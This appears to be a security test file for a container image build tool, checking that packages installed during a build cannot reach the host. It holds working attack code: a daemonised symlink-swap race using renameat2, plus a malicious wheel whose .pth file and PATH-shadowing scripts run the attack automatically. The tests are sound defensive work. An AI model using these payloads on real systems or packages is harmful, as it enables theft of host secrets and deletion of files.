"""factory build --layout: what a package does while it is installed reaches nothing of this machine.

The attack: a process that outlives the instruction which started it swaps folders of the container for links
to folders of this machine, again and again, while root looks through the container's files.
"""

import json
import os
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.built import factory
from support.index_server import IndexServer
from support.podman import podman
from support.small_flavors import make_flavor, write_lock
from support.wheels import make_wheel

from factory.build.layer_container import BuildContainer, engine_states, install_layer
from factory.build.oci_layout import OciLayout
from factory.build.package_layers import LayerInstall
from factory.build.parts import part_tag
from factory.engine.engine import find_engine
from factory.engine.leftovers import ContainerOwner, repository_mark
from factory.errors import StorageError
from factory.flavor.repository import Flavor
from factory.render.drift import sync_flavor
from factory.tree import Tree

pytestmark = pytest.mark.container

SECRET = b"-----BEGIN PRIVATE KEY----- of the host"
FOLDERS = 60
# What the RUN of a layer calls; uv installs none that is named like Python.
PROGRAMS = ("find", "sort", "env", "sed", "rm", "readlink", "touch")
# Smaller than any layer of the base image, larger than any of these tests.
BASE_LAYER_BYTES = 20_000_000
# Python, since the base has it; it ends by itself where nothing ends it.
ATTACKER = """\
import ctypes, os, time
def attack(site, host):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    quiet = os.open(os.devnull, os.O_RDWR)
    for stream in (0, 1, 2):
        os.dup2(quiet, stream)
    kinds = ("secret", "victim")
    places = [os.path.join(site, "evil_%s_%d" % (kind, n)) for kind in kinds for n in range(FOLDERS)]
    for place in places:
        os.makedirs(place, exist_ok=True)
        for name in ("secret", "victim"):
            with open(os.path.join(place, name), "w") as file:
                file.write("x" * SIZE)
        os.symlink(host, place + ".link")
    swap = ctypes.CDLL(None).renameat2
    end = time.time() + 30
    while time.time() < end:
        for place in places:
            swap(-100, place.encode(), -100, (place + ".link").encode(), 2)  # RENAME_EXCHANGE
    os._exit(0)
""".replace("FOLDERS", str(FOLDERS)).replace("SIZE", str(len(SECRET)))


@pytest.fixture
def host(tmp_path: Path) -> Path:
    """A folder of this machine with a secret to read and a file to delete."""
    folder = tmp_path / "host"
    folder.mkdir()
    for name in ("secret", "victim"):
        (folder / name).write_bytes(SECRET)
        (folder / name).chmod(0o600)
    return folder


def _assert_untouched(host: Path, layout: Path) -> None:
    assert {path.name: path.read_bytes() for path in host.iterdir()} == {"secret": SECRET, "victim": SECRET}
    blobs = [path for path in layout.rglob("*") if path.is_file() and not path.is_symlink()]
    assert not [path for path in blobs if SECRET in path.read_bytes()]


def _evil(folder: Path, host: Path) -> Path:
    """A wheel that starts the attack wherever Python, or a program that it brings, is started afterwards.

    The base has /opt/app-root/bin first in its PATH.
    """
    site = "/opt/app-root/lib/python3.11/site-packages"
    program = f"#!/bin/sh\ntouch {site}/evil-ran\nexec /usr/bin/python3 {site}/evil.pth\n"
    modules = {
        **{f"evil-1.0.data/scripts/{name}": program for name in PROGRAMS},
        "evil.pth": f"import evil; open('{site}/evil-ran', 'w').close(); evil.attack('{site}', '{host}')\n",
        "evil.py": ATTACKER,
        **{f"evil_filler/m{number}.py": "x = 1\n" for number in range(300)},
    }
    return make_wheel(folder, "evil", "1.0", modules=modules)


def _with_name(flavor: Flavor, tables: str) -> None:
    project = flavor.folder / "pyproject.toml"
    text = project.read_text().replace(
        "[tool.factory]\n", f'[tool.factory]\nname = "uif-evil-{os.getpid()}"\n'
    )
    project.write_text(text + tables)


def _build(root: Path, base: str, *words: str | Path) -> Any:  # noqa: ANN401 - JSON
    return json.loads(
        factory(
            "--root", root, "--json", "build", f"uif-evil-{os.getpid()}", "--base-image", base,
            "--layout", root / "layout", "--prefetched", root / "prefetched", *words,
        )
    )  # fmt: skip


@pytest.fixture
def root(tmp_path: Path) -> Iterator[Path]:
    yield tmp_path
    keys = {key for record in tmp_path.glob(".work/images/*/segments") for key in record.read_text().split()}
    names = [part_tag(repository_mark(tmp_path), key) for key in sorted(keys)]
    podman("image", "rm", "--force", *names, status=None)


def _names(layout: Path) -> set[str]:
    """What the attack makes, as far as a layer has it."""
    found = set()
    for path in (layout / "blobs" / "sha256").iterdir():
        if path.stat().st_size < BASE_LAYER_BYTES and tarfile.is_tarfile(path):
            with tarfile.open(path) as archive:
                found |= {Path(name).name for name in archive.getnames()}
    return found & {"evil-ran", "evil_secret_0", "evil_victim_0"}


def test_pth_file_starts_nothing_when_bytecode_is_compiled(root: Path, host: Path, base_image: str) -> None:
    wheel = _evil(root / "wheels", host)
    flavor = make_flavor(root, name=f"uif-evil-{os.getpid()}", index_url=None, dependencies=["evil"])
    _with_name(flavor, "bytecode = true\n")
    write_lock(Flavor(flavor.folder), [wheel], index_url=None)
    sync_flavor(Flavor(flavor.folder))
    done = _build(root, base_image, "--find-links", root / "wheels")
    assert done["made"]
    _assert_untouched(host, root / "layout")
    assert _names(root / "layout") == set()


def test_pth_file_starts_nothing_when_a_second_index_is_installed_from(
    root: Path, host: Path, base_image: str
) -> None:
    main, extra = root / "main", root / "extra"
    _evil(main, host)
    make_wheel(extra, "kernel", "2.0")
    with IndexServer(folder=main) as main_index, IndexServer(folder=extra) as extra_index:
        flavor = make_flavor(
            root, name=f"uif-evil-{os.getpid()}", index_url=main_index.url, dependencies=["evil", "kernel"]
        )
        _with_name(
            flavor,
            f'[[tool.factory.indexes]]\nname = "extra"\nurl = "{extra_index.url}"\npackages = ["kernel"]\n',
        )
        for words in (("sync",), ("lock",), ("prefetch", "--output", root / "prefetched")):
            factory("--root", root, words[0], flavor.name, *words[1:])
    done = _build(root, base_image)
    assert done["made"]
    _assert_untouched(host, root / "layout")
    assert _names(root / "layout") == set()


@pytest.fixture
def build_container(tmp_path: Path, base_image: str) -> Iterator[BuildContainer]:
    (tmp_path / "prefetched").mkdir(mode=0o755)
    (tmp_path / "prefetched" / "attacker.py").write_text(ATTACKER)
    (tmp_path / "locks" / "rest").mkdir(parents=True)
    (tmp_path / "locks" / "rest" / "requirements.txt").write_text("")
    with (
        OciLayout.prepared(tmp_path / "layout") as layout,
        Tree.opened(tmp_path / "locks") as locks,
    ):
        yield BuildContainer(
            engine=find_engine("podman"),
            base=base_image,
            user="1001",
            prefetched=tmp_path / "prefetched",
            locks=locks,
            blobs=layout.blobs,
            owner=ContainerOwner(repository="test", notes=tmp_path / f"notes-{os.getpid()}"),
        )


def test_process_that_outlives_the_install_is_gone_before_its_files_are_looked_at(
    build_container: BuildContainer, tmp_path: Path, host: Path
) -> None:
    layer = LayerInstall(
        name="rest",
        source="/layers/rest/",
        target="/usr/share/factory/layers/rest/",
        user="1001",
        run="mkdir /opt/app-root/x && cd /cachi2 && /opt/app-root/bin/python -c "
        f"\"import attacker; attacker.attack('/opt/app-root/x', '{host}')\" && sleep 2",
    )
    install_layer(build_container, layer, engine_states(build_container), epoch=0)
    assert "evil_secret_0" in _names(tmp_path / "layout"), "the attack did not begin"
    _assert_untouched(host, tmp_path / "layout")
    left = podman("ps", "--all", "--quiet", "--filter", f"label={build_container.owner.label}")
    assert left == ""


def test_link_that_a_package_leaves_is_written_as_a_link(
    build_container: BuildContainer, tmp_path: Path, host: Path
) -> None:
    layer = LayerInstall(
        name="rest",
        source="/layers/rest/",
        target="/usr/share/factory/layers/rest/",
        user="1001",
        run=f"ln -s {host} /opt/app-root/to-host && ln -s {host}/secret /opt/app-root/to-secret && "
        "mkfifo /opt/app-root/fifo",
    )
    install_layer(build_container, layer, engine_states(build_container), epoch=0)
    _assert_untouched(host, tmp_path / "layout")


def test_base_image_whose_folder_for_locks_is_a_link_gets_nothing_written_through_it(
    build_container: BuildContainer, tmp_path: Path, host: Path
) -> None:
    layer = LayerInstall(
        name="rest", source="/layers/rest/", target="/var/run/factory/", user="1001", run="true"
    )
    # /var/run is a link in every Debian; the one that a base brings could lead anywhere.
    with pytest.raises(StorageError, match="is a link"):
        install_layer(build_container, layer, engine_states(build_container), epoch=0)
    assert not Path("/run/factory").exists()
